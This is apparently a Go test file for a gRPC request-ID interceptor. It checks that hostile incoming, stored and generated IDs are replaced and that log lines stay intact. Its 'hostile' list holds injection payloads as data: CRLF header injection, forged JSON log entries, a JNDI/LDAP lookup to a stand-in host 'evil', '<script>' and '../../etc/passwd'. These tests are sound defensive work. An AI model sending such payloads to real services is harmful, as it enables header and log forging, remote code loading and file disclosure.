package requestid_test

import (
	"bytes"
	"context"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"google.golang.org/grpc"
	"google.golang.org/grpc/metadata"

	"github.com/hauberk-rpc/hauberk"
	"github.com/hauberk-rpc/hauberk/hauberktest"
	"github.com/hauberk-rpc/hauberk/interceptors/requestid"
)

// hostile are ids with which a caller tries to forge log lines, headers or markup (ATTACKS
// G03), or to exhaust memory. HTTP/2 and grpc-go's client reject some of them; proxies,
// generators and handlers may not.
var hostile = []string{
	"a\r\nx-user: root",
	"a\n{\"msg\":\"call ended\",\"code\":\"OK\"}",
	`a","code":"OK","x":"`,
	"\x1b[31mred\x1b[0m",
	"a\x00b",
	"a\u2028b",
	"\xff\xfe",
	"\u202etxt.exe",
	"ａｂｃ", // full-width letters
	"a%0d%0ab",
	"${jndi:ldap://evil}",
	"<script>",
	"../../etc/passwd",
	"a b=c",
	" a",
	"a ",
	"a\t",
	"a\x7f",
	strings.Repeat("x", 129),
	strings.Repeat("x", 1<<20),
}

// A chain does not accept such an id, also if the transport does.
func TestHostileIncoming(t *testing.T) {
	for _, id := range hostile {
		for _, kind := range kinds {
			for _, set := range []bool{false, true} {
				interceptor, _, seen := watch()
				chain := hauberk.Must(hauberk.New(requestid.New(requestid.Config{SetMetadata: set}), interceptor))
				ctx := metadata.NewIncomingContext(t.Context(), metadata.MD{header: {id}})
				stream := &serverStream{ctx: ctx}
				stream.ctx = grpc.NewContextWithServerTransportStream(ctx, &stream.fakeStream)
				err := stream.serve(chain, kind, func(ctx context.Context) {
					seen.handler = requestid.FromContext(ctx)
					seen.metadata = metadata.ValueFromIncomingContext(ctx, header)
				})
				if err != nil {
					t.Fatal(err)
				}
				wantOwn(t, seen.interceptor)
				equal(t, "the handler's state", []string{seen.handler}, seen.interceptor)
				equal(t, "response header", stream.header.Get(header), seen.interceptor)
				if set {
					equal(t, "request metadata", seen.metadata, seen.interceptor)
				}
			}
		}
	}
}

// An outgoing call does not forward such an id, also if another interceptor has put it into
// the state of the incoming call.
func TestHostileState(t *testing.T) {
	for _, kind := range kinds {
		hauberktest.CheckLeaks(t)
		c := hauberktest.Case{Side: hauberk.ClientSide, Kind: kind}
		interceptor, backend, seen := watch()
		env := c.StartWith(t, backend, requestid.New(requestid.Config{}), interceptor)
		for _, id := range hostile {
			careless := hauberk.Func(func(ctx context.Context, call *hauberk.Call, next hauberk.Next) error {
				requestid.Key.Set(call, id)
				return next(ctx, call)
			})
			serve := hauberk.Must(hauberk.New(careless)).UnaryServerInterceptor()
			handle := func(ctx context.Context, _ any) (any, error) { return "response", env.Call(ctx).Err }
			if _, err := serve(t.Context(), nil, &grpc.UnaryServerInfo{FullMethod: "/s/m"}, handle); err != nil {
				t.Fatal(err)
			}
			wantOwn(t, seen.interceptor)
			equal(t, "request metadata", seen.metadata, seen.interceptor)
		}
	}
}

// A client does not send such an id of the application or of its generator.
func TestHostileOutgoing(t *testing.T) {
	for _, kind := range kinds {
		hauberktest.CheckLeaks(t)
		c := hauberktest.Case{Side: hauberk.ClientSide, Kind: kind}
		for _, id := range hostile {
			interceptor, backend, seen := watch()
			generate := requestid.WithGenerator(func() string { return id })
			env := c.StartWith(t, backend, requestid.New(requestid.Config{}, generate), interceptor)
			for _, ctx := range []context.Context{t.Context(), metadata.NewOutgoingContext(t.Context(), metadata.MD{header: {id}})} {
				if out := env.Call(ctx); out.Err != nil {
					t.Fatal(out.Err)
				}
				wantOwn(t, seen.interceptor)
				equal(t, "request metadata", seen.metadata, seen.interceptor)
			}
		}
	}
}

// Ids are safe in logs without quotes: each call has one line.
func TestHostileInALog(t *testing.T) {
	var log bytes.Buffer
	chain := hauberk.Must(hauberk.New(requestid.New(requestid.Config{})))
	for _, id := range hostile {
		stream := &serverStream{ctx: metadata.NewIncomingContext(t.Context(), metadata.MD{header: {id}})}
		err := stream.serve(chain, hauberk.Bidi, func(ctx context.Context) {
			fmt.Fprintf(&log, "call %s ended\n", requestid.FromContext(ctx))
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	lines := strings.Split(strings.TrimSuffix(log.String(), "\n"), "\n")
	if len(lines) != len(hostile) {
		t.Errorf("%d lines of %d calls", len(lines), len(hostile))
	}
	for _, line := range lines {
		if !regexp.MustCompile(`^call [A-Za-z0-9._-]{1,128} ended$`).MatchString(line) {
			t.Errorf("the line %q", line)
		}
	}
}

func wantOwn(t *testing.T, id string) {
	t.Helper()
	if !uuid.MatchString(id) {
		t.Errorf("the state has %q; want a UUID of version 7", id)
	}
}

// serverStream is the stream of a call without a transport.
type serverStream struct {
	grpc.ServerStream
	fakeStream

	ctx context.Context
}

func (s *serverStream) Context() context.Context        { return s.ctx }
func (*serverStream) SendMsg(any) error                 { return nil }
func (s *serverStream) SetHeader(md metadata.MD) error  { return s.fakeStream.SetHeader(md) }
func (s *serverStream) SendHeader(md metadata.MD) error { return s.fakeStream.SendHeader(md) }
func (s *serverStream) SetTrailer(metadata.MD)          {}

// serve runs a chain around a handler as grpc-go runs its interceptors.
func (s *serverStream) serve(chain *hauberk.Chain, kind hauberk.Kind, handle func(ctx context.Context)) error {
	if kind == hauberk.Unary {
		_, err := chain.UnaryServerInterceptor()(s.ctx, nil, &grpc.UnaryServerInfo{FullMethod: "/s/m"},
			func(ctx context.Context, _ any) (any, error) {
				handle(ctx)
				return "response", nil
			})
		return err
	}
	info := &grpc.StreamServerInfo{
		FullMethod: "/s/m", IsClientStream: kind.ClientStreams(), IsServerStream: kind.ServerStreams(),
	}
	return chain.StreamServerInterceptor()(nil, s, info, func(_ any, stream grpc.ServerStream) error {
		handle(stream.Context())
		return stream.SendMsg("response")
	})
}
